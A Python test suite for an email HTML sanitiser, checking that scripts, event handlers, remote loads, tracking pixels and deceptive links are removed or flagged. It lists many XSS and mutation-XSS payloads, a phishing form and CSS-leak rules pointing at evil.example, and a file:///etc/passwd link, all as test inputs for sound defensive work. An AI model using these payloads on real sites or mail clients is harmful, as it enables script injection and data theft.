"""HTML of strangers: what runs, loads, covers or lies is gone or shown; what people wrote is still there."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from postroom.mail.safe_html import HTML_MOST, LINKS_MOST, clean

ACTIVE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(#default#x)'>x</p>",
    "<p style='-moz-binding:url(https://evil.example/x)'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p title='x\" onmouseover=\"alert(1)'>x</p>",
    "<body onload=alert(1)>",
    "<div background=javascript:alert(1)>x</div>",
    "<style>a{}</style><img src=x onerror=alert(1)></style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<video src=x onerror=alert(1)><audio src=x><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<xml><o:p onload=alert(1)></xml>",
]
FORBIDDEN = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "meta",
    "base",
    "link",
    "svg",
    "math",
}
FORBIDDEN |= {"template", "video", "audio"}


class Reader(HTMLParser):
    """What a browser would find in the cleaned HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.style = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    def handle_data(self, data: str) -> None:
        if self.lasttag == "style":
            self.style += data


def assert_harmless(html: str) -> None:
    found = Reader(html)
    assert not found.names & FORBIDDEN
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), (tag, name)
        if name == "href":
            assert re.match(r"(?:https?|mailto|tel):", value, re.IGNORECASE), value
        elif name in ("src", "background", "srcset"):
            assert re.match(r"data:image/(?:png|jpe?g|gif|webp);base64,", value, re.IGNORECASE), value
        elif name == "style":
            assert "url" not in value.lower()
            assert "expression" not in value.lower()
    assert "url" not in found.style.lower()
    assert "@import" not in found.style.lower()


@pytest.mark.parametrize("html", ACTIVE)
def test_what_runs_or_loads_is_gone(html: str) -> None:
    for source in (html, f"<p>Before {html} after", f"<table><tr><td>{html}"):
        assert_harmless(clean(source).html)


def test_what_people_wrote_stays() -> None:
    html = (
        '<p dir="ltr" style="color: red; font-weight: bold">Hello <b>Dora</b></p><ul><li>one</li></ul>'
        '<table border="1"><tbody><tr><td colspan="2" bgcolor="#eee">cell</td></tr></tbody></table>'
    )
    assert clean(html).html == html


@pytest.mark.parametrize(
    ("html", "address"),
    [
        ("<img src='https://track.example/a.gif?u=1' width=1>", "https://track.example/a.gif?u=1"),
        ("<img src='//track.example/a.gif'>", "https://track.example/a.gif"),
        (
            "<img srcset='https://track.example/b.gif 2x, https://track.example/c.gif 3x'>",
            "https://track.example/c.gif",
        ),
        ("<table background='https://track.example/d.gif'><tr><td>x</table>", "https://track.example/d.gif"),
        ("<body background='https://track.example/d.gif'>x", "https://track.example/d.gif"),
        ("<p style='background:url(https://track.example/e.gif)'>x", "https://track.example/e.gif"),
        (
            "<p style=\"background-image: URL( 'https://track.example/e.gif' )\">x",
            "https://track.example/e.gif",
        ),
        ("<style>p{background:url(https://track.example/f.gif)}</style><p>x", "https://track.example/f.gif"),
    ],
)
def test_remote_pictures_are_listed_and_not_loaded(html: str, address: str) -> None:
    found = clean(html)
    assert address in found.remote
    for tag, name, value in Reader(found.html).attributes:
        assert name == "data-remote-src" or "track.example" not in value, (tag, name)
    assert "track.example" not in Reader(found.html).style


def test_allowed_pictures_come_through_the_proxy() -> None:
    html = "<img src='https://a.example/1.png?x=1&amp;y=2'><p style='background: url(https://a.example/2.png)'>x</p>"
    found = clean(html, allow_remote=True, proxy=lambda address: f"/proxy/{address.removeprefix('https://')}")
    shown = [value for _, name, value in Reader(found.html).attributes if name in ("src", "style")]
    assert shown == ["/proxy/a.example/1.png?x=1&y=2", 'background: url("/proxy/a.example/2.png")']
    assert found.remote == ("https://a.example/1.png?x=1&y=2", "https://a.example/2.png")


def test_a_blocked_picture_keeps_its_address_for_later() -> None:
    assert (
        clean("<img src='https://a.example/1.png' alt=x>").html
        == '<img data-remote-src="https://a.example/1.png" alt="x">'
    )


def test_pictures_of_the_mail_itself() -> None:
    html = "<img src='cid:logo@acme'><img src='cid:a%40b'><img src='cid:unknown'><img src='CID:logo@acme'>"
    found = clean(html, {"logo@acme": "/picture/1?a=1&b=2", "a@b": "/picture/2"})
    assert [value for _, name, value in Reader(found.html).attributes if name == "src"] == [
        "/picture/1?a=1&b=2",
        "/picture/2",
        "/picture/1?a=1&b=2",
    ]
    assert found.remote == ()


def test_small_pictures_in_the_address_stay_huge_ones_go() -> None:
    small = "data:image/png;base64,iVBORw0KGgo="
    assert f'src="{small}"' in clean(f"<img src='{small}'>").html
    assert "data:" not in clean(f"<img src='data:image/png;base64,{'A' * 1_200_000}'>").html


@pytest.mark.parametrize(
    ("text", "href", "deceptive"),
    [
        ("Log in", "https://evil.example/", False),
        ("https://bank.example/login", "https://bank.example/login", False),
        ("https://bank.example/login", "http://evil.example/login", True),
        ("bank.example", "https://www.bank.example/x", False),
        ("www.bank.example", "https://login.bank.example/", False),
        ("www.bank.example", "https://bank.example.evil.example/", True),
        ("BANK.example", "https://bank.EXAMPLE", False),
        ("b\u200bank.example", "https://evil.example", True),
        ("ada@acme.example", "mailto:ada@acme.example?subject=x", False),
        ("ada@acme.example", "mailto:eve@evil.example", True),
        ("bücher.example", "https://xn--bcher-kva.example/", False),
        ("click", "https://bank.example@evil.example/", True),
        ("invoice.pdf", "https://files.example/1", False),
        ("Version 2.0 of it", "https://files.example/1", False),
        ("+420 123 456 789", "tel:+420123456789", False),
    ],
)
def test_links_say_what_they_truly_point_to(text: str, href: str, deceptive: bool) -> None:
    (link,) = clean(f'<p title="a>b">x <a title="c>d" href="{href}"><b>{text}</b></a></p>').links
    assert (link.text, link.href, link.deceptive) == (text, href, deceptive)


def test_links_open_apart_and_tell_nothing() -> None:
    html = clean('<a href="https://a.example/" target=_self rel=opener>x</a>').html
    assert ("a", "target", "_blank") in Reader(html).attributes
    assert ("a", "rel", "noopener noreferrer nofollow") in Reader(html).attributes


def test_a_picture_as_a_link_is_listed_by_its_words() -> None:
    (link,) = clean('<a href="https://a.example/"><img src="cid:x" alt="https://b.example"></a>').links
    assert (link.text, link.deceptive) == ("https://b.example", True)


def test_style_sheets_are_kept_without_what_loads_or_covers() -> None:
    html = """<style>
      @import url(https://evil.example/a.css); @import "https://evil.example/b.css";
      @font-face { font-family: x; src: url(https://evil.example/c.woff) }
      p.x, td > b { color: red; position: fixed; top: 0; z-index: 9; background: u\\72l(https://evil.example/d) }
      @media (max-width: 600px) { p { width: 100% !important } }
      input[value^=a] { background: url(https://evil.example/leak?a) }
      p { margin: -500px; color: blue } </style><p class=x>x</p>"""
    found = clean(html)
    style, _, body = found.html.partition("</style>")
    assert body == '<p class="x">x</p>'
    assert "evil" not in style
    for gone in ("position", "z-index", "@font-face", "-500px", "top"):
        assert gone not in style
    for kept in (
        "p.x, td > b { color: red }",
        "@media (max-width: 600px) { p { width: 100% !important } }",
        "color: blue",
    ):
        assert kept in style


@pytest.mark.parametrize(
    "sheet",
    [
        "</style><script>alert(1)</script>",
        "p{color:red}<!--",
        "p{color:</style>}",
        "{{{",
        "p{color:red",
        "*/ p{color:red}",
    ],
)
def test_broken_style_sheets_break_out_of_nothing(sheet: str) -> None:
    assert_harmless(clean(f"<style>{sheet}</style><p>x</p>").html)


def test_limits_are_told() -> None:
    assert clean("x" * (HTML_MOST + 1)).limited
    assert clean("x" * (HTML_MOST + 1)).html == ""
    many = clean('<a href="https://a.example/">x</a>' * (LINKS_MOST + 1))
    assert (many.limited, len(many.links)) == (True, LINKS_MOST)


def test_a_mail_as_deep_as_a_well_keeps_its_words() -> None:
    found = clean("<div>" * 10_000 + "Deep inside." + "</div>" * 10_000 + "<p>After.</p>")
    assert "Deep inside." in found.html
    assert "<p>After.</p>" in found.html


PIECES = [*ACTIVE, "<p>", "</p>", "<b>", "</b>", "<a href='https://a.example'>", "</a>",
          "<style>", "</style>", "<!--", "-->", "'", '"', "<", ">", "x",
          "<table>", "<td>", "</table>", "<svg>", "</svg>", "<math>", "<title>", "</title>",
          "<xmp>", "<plaintext>", "&lt;", "\0"]  # fmt: skip


@settings(deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=12))
def test_any_mixture_comes_out_harmless(pieces: list[str]) -> None:
    assert_harmless(clean("".join(pieces)).html)


@settings(deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_cleaned_without_an_error(text: str) -> None:
    assert_harmless(clean(text).html)


@pytest.mark.parametrize(
    "unit",
    ["<div>", "<b>", "<blockquote>", "<font color=red>", "<a href=x>", "<style>{", "<table><tr><td>",
     "<li>", "<b><p>", "<", "<!--",
     '<p style="color:red;', "<style>@media x{", "<style></style", '<a href="http://a/">x', "<b id=1><b id=2><p>x</p>"],
)  # fmt: skip
def test_time_is_bounded_on_any_input(unit: str) -> None:
    start = time.process_time()
    clean(unit * (100_000 // len(unit)))
    assert time.process_time() - start < 2


def test_unclosed_bold_does_not_multiply() -> None:
    html = "<p>" + "".join(f"<b id={number}>" for number in range(140)) + "</p>" + "<p>x</p>" * 5_000
    assert len(clean(html).html) < 3 * len(html)
